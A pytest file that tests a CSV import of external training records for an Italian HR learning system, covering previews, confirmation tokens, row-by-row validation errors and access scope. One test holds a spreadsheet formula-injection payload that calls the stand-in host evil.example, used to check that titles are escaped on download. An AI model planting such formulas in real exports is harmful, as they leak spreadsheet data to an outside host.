"""Training done elsewhere loaded from a CSV: preview, confirmation, every bad row named.

The world of tests/test_external.py: Maria and Luca in Napoli (the HR manager's
Campania), Paolo in Catanzaro (Calabria, out of scope).
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from conftest import csrf_token
from flask.testing import FlaskClient
from sqlalchemy import select
from test_external import (  # noqa: F401 - the fixtures
    TODAY,
    World,
    add_training,
    audit_count,
    client_for_fixture,
    text,
    trainings,
    world_fixture,
)

from lms.audit.models import AuditEntry, AuditObject
from lms.extensions import db
from lms.external.imports import UNKNOWN_PERSON, check_file
from lms.external.models import TrainingSource, TrainingStatus
from lms.register.models import Authority

MARIA, LUCA, PAOLO = "RSSMRA80A41F839A", "VRDLCU85C03F839Y", "BNCPLA75B02C352F"
#: A well-formed codice fiscale nobody on the register has.
NOBODY = "SPSCRI70E05F839O"
HEADER = "codice_fiscale;title;provider;completed_on;hours"


def csv_file(*rows: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode(encoding)


def upload(client: FlaskClient, data: bytes, name: str = "formazione.csv"):
    token = csrf_token(client, "/formazione-esterna/importa")
    return client.post(
        "/formazione-esterna/importa",
        data={"csrf_token": token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def confirm(client: FlaskClient, page: str):
    token = page.split('name="token" value="', 1)[1].split('"', 1)[0]
    return client.post(
        "/formazione-esterna/importa/conferma",
        data={"csrf_token": csrf_token(client, "/accessibilita"), "token": token},
    )


def problems(page: str) -> list[str]:
    """The listed problems of the upload page, as text."""
    if 'id="import-errors"' not in page:
        return []
    block = page.split('id="import-errors">', 1)[1].split("</ul>", 1)[0]
    items = [item.split("</li>", 1)[0] for item in block.split("<li")[1:]]
    return [
        item.split(">", 1)[1].replace("&#39;", "'").replace("&lt;", "<").replace("&gt;", ">")
        for item in items
    ]


def test_a_file_is_previewed_then_loaded_approved(world: World, client_for) -> None:
    # Excel on an Italian PC: ";" and Windows-1252 (the accent of "Università")
    data = csv_file(
        f"{MARIA};Il nuovo codice dei contratti pubblici;SNA;15/03/2026;7,5",
        f"{LUCA.lower()};Fondi strutturali;Università di Napoli;2026-02-01;12",
        f" {MARIA} ;Project management;Formez PA;01/02/2025;20",
        encoding="cp1252",
    )
    client = client_for(world.hr)
    preview = upload(client, data)
    assert preview.status_code == 200
    page = text(preview)
    assert "Il file è corretto: 3 righe lette" in page
    assert 'data-count="new">3<' in page
    assert 'data-count="skipped">0<' in page
    assert "39,5 ore" in page
    assert "<code>063049</code> 3" in page
    assert trainings() == []  # nothing written by the preview
    done = confirm(client, page)
    assert done.status_code == 200
    assert 'data-count="imported">3<' in text(done)
    loaded = trainings()
    assert [(t.staff_id, t.title, t.completed_on, t.hours) for t in loaded] == [
        (
            world.maria.id,
            "Il nuovo codice dei contratti pubblici",
            date(2026, 3, 15),
            Decimal("7.5"),
        ),
        (world.luca.id, "Fondi strutturali", date(2026, 2, 1), Decimal(12)),
        (world.maria.id, "Project management", date(2025, 2, 1), Decimal(20)),
    ]
    assert loaded[1].provider == "Università di Napoli"
    for training in loaded:
        assert training.status is TrainingStatus.APPROVED
        assert training.source is TrainingSource.IMPORTED
        assert training.decided_by_id == world.hr.id
        assert training.declared_by_id == world.hr.id
    (entry,) = db.session.scalars(select(AuditEntry)).all()
    assert entry.action == "training.import"
    assert entry.actor_id == world.hr.id
    summary = dict(entry.summary)
    assert len(summary.pop("sha256")) == 64
    assert summary == {
        "bytes": len(data),
        "rows": 3,
        "imported": 3,
        "skipped": 0,
        "people": 2,
        "hours": "39.5",
    }
    objects = {
        (kind.value, object_id)
        for kind, object_id in db.session.execute(
            select(AuditObject.kind, AuditObject.object_id)
        ).all()
    }
    assert objects == {("training", t.id) for t in loaded} | {("authority", world.napoli.id)}
    # The confirmation is used once.
    again = confirm(client, page)
    assert again.status_code == 302
    assert len(trainings()) == 3
    # The same file again: every row already loaded, skipped, nothing to confirm.
    second = text(upload(client, data))
    assert 'data-count="new">0<' in second
    assert 'data-count="skipped">3<' in second
    assert "Non c'è nulla di nuovo da importare" in second
    assert 'name="token"' not in second
    assert len(trainings()) == 3


def test_a_record_already_there_is_skipped_whatever_its_status(world: World, client_for) -> None:
    add_training(
        world.maria,
        status=TrainingStatus.REFUSED,
        title="Corso SNA",
        completed_on=date(2026, 1, 10),
    )
    data = csv_file(
        f"{MARIA};corso  sna;SNA;10/01/2026;8",  # the same course, another spelling
        f"{MARIA};Corso SNA;SNA;11/01/2026;8",  # another day: another course
    )
    client = client_for(world.hr)
    page = text(upload(client, data))
    assert 'data-count="new">1<' in page
    assert 'data-count="skipped">1<' in page
    confirm(client, page)
    assert [(t.completed_on, t.status) for t in trainings()] == [
        (date(2026, 1, 10), TrainingStatus.REFUSED),
        (date(2026, 1, 11), TrainingStatus.APPROVED),
    ]


def test_every_bad_row_is_named_and_nothing_is_written(world: World, client_for) -> None:
    tomorrow = (TODAY + timedelta(days=1)).strftime("%d/%m/%Y")
    data = csv_file(
        f"{MARIA};Buono;SNA;01/02/2026;8",
        f"{NOBODY};Sconosciuta;SNA;01/02/2026;8",
        f"{PAOLO};Fuori area;SNA;01/02/2026;8",
        "RSSMRA80A41F839B;Controllo errato;SNA;01/02/2026;8",
        f"{LUCA};Data sbagliata;SNA;31/02/2026;8",
        f"{LUCA};Futuro;SNA;{tomorrow};8",
        f"{LUCA};Antico;SNA;31/12/1999;8",
        f"{LUCA};Zero ore;SNA;01/02/2026;0",
        f"{LUCA};Ore negative;SNA;01/02/2026;-2",
        f"{LUCA};Ore a parole;SNA;01/02/2026;abc",
        f"{MARIA};buono;Altro ente;01/02/2026;4",
        ";Senza persona;;01/02/2026;",
        f"{LUCA};Troppe celle;SNA;01/02/2026;8;in più",
    )
    response = upload(client_for(world.hr), data)
    assert response.status_code == 400
    page = text(response)
    assert "Il file contiene errori: non è stato importato nulla." in page
    unknown = str(UNKNOWN_PERSON)
    assert problems(page) == [
        f"riga 3, codice_fiscale: {unknown}",
        f"riga 4, codice_fiscale: {unknown}",
        "riga 5, codice_fiscale: carattere di controllo errato",
        "riga 6, completed_on: 31/02/2026 non è una data esistente",
        "riga 7, completed_on: la data è nel futuro: indica il giorno in cui il corso è finito",
        (
            "riga 8, completed_on: la data è troppo lontana: sono accettate le formazioni dal"
            " 2000 in poi"
        ),
        "riga 9, hours: le ore devono essere più di zero",
        (
            "riga 10, hours: «-2» non è un numero di ore: scrivi per esempio 8 oppure 7,5"
            " (al massimo due decimali)"
        ),
        (
            "riga 11, hours: «abc» non è un numero di ore: scrivi per esempio 8 oppure 7,5"
            " (al massimo due decimali)"
        ),
        "riga 12, title: la stessa formazione (persona, titolo e data) è già alla riga 2",
        "riga 13, codice_fiscale: manca il codice fiscale",
        "riga 13, provider: indica l'ente che ha erogato il corso",
        "riga 13, hours: indica le ore",
        "riga 14, celle in più: «in più» è oltre l'ultima colonna dell'intestazione",
    ]
    assert trainings() == []
    assert audit_count() == 0
    assert "Catanzaro" not in page
    assert "Bianchi" not in page


def test_out_of_scope_people_look_exactly_like_unknown_ones(world: World) -> None:
    out = check_file(csv_file(f"{PAOLO};Corso;SNA;01/02/2026;8"), importer=world.hr, today=TODAY)
    unknown = check_file(
        csv_file(f"{NOBODY};Corso;SNA;01/02/2026;8"), importer=world.hr, today=TODAY
    )
    assert [str(e) for e in out.errors] == [str(e) for e in unknown.errors]
    # Paolo's own HR manager and an administrator reach him.
    assert check_file(
        csv_file(f"{PAOLO};Corso;SNA;01/02/2026;8"), importer=world.hr_calabria, today=TODAY
    ).ok
    both = check_file(
        csv_file(f"{PAOLO};Corso;SNA;01/02/2026;8", f"{MARIA};Corso;SNA;01/02/2026;8"),
        importer=world.admin,
        today=TODAY,
    )
    assert both.ok
    assert both.by_authority == {"063049": 1, "079023": 1}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "il file è vuoto"),
        (csv_file(), "il file ha solo la riga di intestazione"),
        (
            csv_file(f"{MARIA};Corso;SNA;01/02/2026", header="codice_fiscale;title;provider;data"),
            "colonne mancanti: hours",
        ),
        (
            csv_file(f"{MARIA};Corso;SNA;01/02/2026;8;x", header=HEADER + ";note"),
            "colonne sconosciute: note",
        ),
        (b"<html><body>not a csv</body></html>", "pagina web"),
        (b"\x00\x01\x02binary", "non è un file di testo"),
    ],
)
def test_files_that_are_not_the_format(world: World, data: bytes, message: str) -> None:
    outcome = check_file(data, importer=world.hr, today=TODAY)
    assert not outcome.ok
    assert message in str(outcome.errors[0])


def test_italian_headers_and_commas_are_accepted(world: World) -> None:
    data = csv_file(
        f'{MARIA},"Appalti, gare e contratti",SNA,2026-01-20,"3,5"',
        header="Codice Fiscale,Titolo,Ente erogatore,Data,Ore",
    )
    outcome = check_file(data, importer=world.hr, today=TODAY)
    assert outcome.ok, [str(e) for e in outcome.errors]
    (row,) = outcome.new
    assert (row.title, row.hours) == ("Appalti, gare e contratti", Decimal("3.5"))


def test_a_formula_in_a_title_is_stored_as_text_and_escaped_in_downloads(
    world: World, client_for
) -> None:
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'
    data = csv_file(f'{MARIA};"{title.replace(chr(34), chr(34) * 2)}";SNA;01/02/2026;8')
    client = client_for(world.hr)
    page = text(upload(client, data))
    assert "&#34;Clicca&#34;" in page or "&quot;Clicca&quot;" in page  # escaped on the page
    confirm(client, page)
    (training,) = trainings()
    assert training.title == title  # as written, never interpreted
    download = client.get("/formazione-esterna/registro.csv")
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][5] == "'" + title


def test_a_stale_or_foreign_confirmation_writes_nothing(world: World, client_for) -> None:
    data = csv_file(f"{MARIA};Corso;SNA;01/02/2026;8")
    hr = client_for(world.hr)
    page = text(upload(hr, data))
    # Another HR manager (or the same one in another session) cannot use the token.
    other = client_for(world.hr)
    response = confirm(other, page)
    assert response.status_code == 302
    assert response.location == "/formazione-esterna/importa"
    assert trainings() == []
    # Between preview and confirmation, Maria moved to Catanzaro: checked again, refused.
    world.maria.authority_id = db.session.scalar(
        select(Authority.id).where(Authority.code == "079023")
    )
    db.session.commit()
    refused = confirm(hr, page)
    assert refused.status_code == 200
    assert problems(text(refused)) == [f"riga 2, codice_fiscale: {UNKNOWN_PERSON}"]
    assert trainings() == []
    assert audit_count() == 0


def test_the_template_file(world: World, client_for) -> None:
    response = client_for(world.hr).get("/formazione-esterna/importa/modello.csv")
    assert response.status_code == 200
    assert response.data == "\ufeffcodice_fiscale;title;provider;completed_on;hours\r\n".encode()
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="modello-formazione-esterna.csv"'
    )
    # The template, filled in, is a valid file.
    filled = response.data + f"{MARIA};Corso;SNA;01/02/2026;8\r\n".encode()
    assert check_file(filled, importer=world.hr, today=TODAY).ok


def test_uploading_needs_a_file_and_the_token(world: World, client_for) -> None:
    client = client_for(world.hr)
    assert client.get("/formazione-esterna/importa").status_code == 200
    token = csrf_token(client, "/formazione-esterna/importa")
    empty = client.post("/formazione-esterna/importa", data={"csrf_token": token})
    assert empty.status_code == 400
    assert "Scegli un file da caricare." in text(empty)
    no_token = client.post(
        "/formazione-esterna/importa",
        data={"file": (io.BytesIO(csv_file()), "f.csv")},
        content_type="multipart/form-data",
    )
    assert no_token.status_code == 400
    assert client.get("/formazione-esterna/importa/conferma").status_code == 405
